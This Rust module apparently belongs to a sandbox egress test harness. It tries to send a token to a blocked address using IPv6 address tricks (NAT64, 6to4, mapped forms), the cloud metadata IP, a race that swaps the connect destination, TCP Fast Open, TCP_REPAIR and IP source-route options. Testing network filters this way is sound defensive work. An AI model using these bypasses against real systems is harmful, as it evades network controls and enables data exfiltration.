//! TCP: connections, and data in the first packet.

use std::{
    net::{Ipv4Addr, Ipv6Addr, SocketAddr},
    os::fd::AsRawFd as _,
    sync::atomic::{AtomicBool, AtomicU32, Ordering},
    time::{Duration, Instant},
};

use super::{Attack, wire};
use crate::attack::{
    aim::{AGENT4, Aim, GOOD4},
    call::{Done, Name, Sock, call, settle, stop},
};

/// Connects, sends the token, and gives it a moment to leave.
pub(super) fn tell(socket: &Sock, to: SocketAddr, aim: &Aim<'_>) -> Done {
    socket.connect(to)?;
    socket.send(&aim.token())
}

fn tcp6_to(address: Ipv6Addr, aim: &Aim<'_>) -> Done {
    tell(&Sock::tcp6()?, (address, 443).into(), aim)
}

fn embedded(prefix: [u16; 6], aim: &Aim<'_>) -> Ipv6Addr {
    let [a, b, c, d] = aim.bad4().octets();
    let [p, q, r, s, t, u] = prefix;
    Ipv6Addr::new(p, q, r, s, t, u, u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]))
}

fn fast_open(socket: &Sock, to: SocketAddr, aim: &Aim<'_>) -> Done {
    socket.send_to_flagged(to, &aim.token(), libc::MSG_FASTOPEN)
}

/// Another thread exchanges the destination while the kernel reads it.
fn race(aim: &Aim<'_>) -> Done {
    let good = Name::of(aim.good4());
    let word = |bytes: &[u8]| u32::from_ne_bytes(bytes.try_into().unwrap_or_default());
    let shared: Vec<AtomicU32> = good.0.chunks(4).map(|bytes| AtomicU32::new(word(bytes))).collect();
    let (turns, over) = (AtomicU32::new(0), AtomicBool::new(false));
    let mut last = Ok(());
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                // In one write: half of one address and half of another would be a third one.
                for address in [aim.bad4(), GOOD4] {
                    shared[1].store(word(&address.octets()), Ordering::Relaxed);
                }
                turns.fetch_add(1, Ordering::Relaxed);
            }
        });
        let start = Instant::now();
        let most = Duration::from_millis(800);
        for _ in 0..2_000 {
            while turns.load(Ordering::Relaxed) == 0 && start.elapsed() < most {
                std::thread::yield_now();
            }
            if start.elapsed() > most {
                break;
            }
            let Ok(socket) = Sock::open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0) else {
                break;
            };
            // SAFETY: sixteen bytes that live through the call; that they change meanwhile is the attack.
            last = call("connect", || unsafe {
                libc::connect(socket.as_raw_fd(), shared.as_ptr().cast(), good.length()).into()
            })
            .map(drop);
        }
        over.store(true, Ordering::Relaxed);
    });
    last
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("a-tcp4", "TCP over IPv4", |aim| tell(&Sock::tcp4()?, aim.to4(), aim)),
    wire("a-tcp6", "TCP over IPv6", |aim| tell(&Sock::tcp6()?, aim.to6(), aim)),
    wire("a-mapped", "TCP to an IPv4 address in IPv6 form", |aim| tell(&Sock::tcp6()?, aim.mapped(), aim)),
    wire("a-link", "TCP to a neighbour on the link", |aim| tell(&Sock::tcp6()?, aim.link(), aim)),
    wire("a-port", "TCP to another port of an allowed address", |aim| {
        tell(&Sock::tcp4()?, (GOOD4, aim.port()).into(), aim)
    }),
    wire("a-again", "TCP to another peer after an allowed one", |aim| {
        let socket = Sock::tcp4()?;
        socket.connect(aim.good4())?;
        socket.disconnect()?;
        tell(&socket, aim.to4(), aim)
    }),
    wire("a-bound", "TCP from a bound socket", |aim| {
        let socket = Sock::tcp4()?;
        socket.bind(SocketAddr::from((AGENT4, 0)))?;
        tell(&socket, aim.to4(), aim)
    }),
    wire("a-nonblocking", "TCP without waiting", |aim| {
        let socket = Sock::open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
        match socket.connect(aim.to4()) {
            Err(refused) if refused.errno != libc::EINPROGRESS => Err(refused),
            _ => settle(50),
        }
    }),
    wire("a-nat64", "TCP through an address of NAT64", |aim| {
        tcp6_to(embedded([0x64, 0xff9b, 0, 0, 0, 0], aim), aim)
    }),
    wire("a-6to4", "TCP through an address of 6to4", |aim| {
        let [a, b, c, d] = aim.bad4().octets();
        let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]));
        tcp6_to(Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1), aim)
    }),
    wire("a-compatible", "TCP to an IPv4-compatible IPv6 address", |aim| {
        tcp6_to(embedded([0, 0, 0, 0, 0, 0], aim), aim)
    }),
    wire("a-metadata", "TCP to a cloud's metadata address", |aim| {
        tell(&Sock::tcp4()?, (Ipv4Addr::new(169, 254, 169, 254), aim.port()).into(), aim)
    }),
    wire("a-exchanged", "TCP while another thread exchanges the destination", race),
    wire("a-long-address", "TCP with an address longer than its kind", |aim| {
        let mut name = Name::of(aim.to4());
        name.0.resize(100, 0);
        let socket = Sock::tcp4()?;
        socket.connect(name)?;
        socket.send(&aim.token())
    }),
    wire("c-fastopen4", "MSG_FASTOPEN over IPv4", |aim| fast_open(&Sock::tcp4()?, aim.to4(), aim)),
    wire("c-fastopen6", "MSG_FASTOPEN over IPv6", |aim| fast_open(&Sock::tcp6()?, aim.to6(), aim)),
    wire("c-fastopen-mapped", "MSG_FASTOPEN to a mapped address", |aim| {
        fast_open(&Sock::tcp6()?, aim.mapped(), aim)
    }),
    wire("c-fastopen-unspecified", "MSG_FASTOPEN with family AF_UNSPEC", |aim| {
        let to = Name::unspecified(aim.to4());
        Sock::tcp4()?.send_to_flagged(to, &aim.token(), libc::MSG_FASTOPEN)
    }),
    wire("c-fastopen-connect", "TCP_FASTOPEN_CONNECT", |aim| {
        let socket = Sock::tcp4()?;
        socket.number("TCP_FASTOPEN_CONNECT", libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, 1)?;
        tell(&socket, aim.to4(), aim)
    }),
    wire("c-fastopen-again", "MSG_FASTOPEN on a socket that was refused a connect", |aim| {
        let socket = Sock::tcp4()?;
        let _refused = socket.connect(aim.to4());
        let _not_connected = socket.disconnect();
        fast_open(&socket, aim.to4(), aim)
    }),
    wire("c-repair", "TCP_REPAIR: a connection without a handshake", |aim| {
        const TCP_SEND_QUEUE: i32 = 2;
        let socket = Sock::tcp4()?;
        socket.number("TCP_REPAIR", libc::IPPROTO_TCP, libc::TCP_REPAIR, 1)?;
        socket.number("TCP_REPAIR_QUEUE", libc::IPPROTO_TCP, libc::TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)?;
        socket.connect(aim.to4())?;
        socket.number("TCP_REPAIR", libc::IPPROTO_TCP, libc::TCP_REPAIR, 0)?;
        socket.send(&aim.token())
    })
    .root(),
    wire("c-unsent", "data left in a socket that is closed at once", |aim| {
        // A refused packet stays queued; the kernel tries again after the program and its scope are gone.
        let socket = Sock::tcp4()?;
        socket.connect(aim.good4())?;
        let mut options = vec![1, 131, 7, 4];
        options.extend(aim.bad4().octets());
        socket.option("IP_OPTIONS", libc::IPPROTO_IP, libc::IP_OPTIONS, &options)?;
        let sent = socket.send(&aim.token());
        drop(socket);
        sent
    }),
    wire("c-no-linger", "a reset to a peer that was never accepted", |aim| {
        let socket = Sock::tcp4()?;
        let linger = [1_i32.to_ne_bytes(), 0_i32.to_ne_bytes()].concat();
        socket.option("SO_LINGER", libc::SOL_SOCKET, libc::SO_LINGER, &linger)?;
        match socket.connect(aim.to4()) {
            Ok(()) => Ok(()),
            Err(refused) => stop(refused.at, refused.errno),
        }
    }),
];
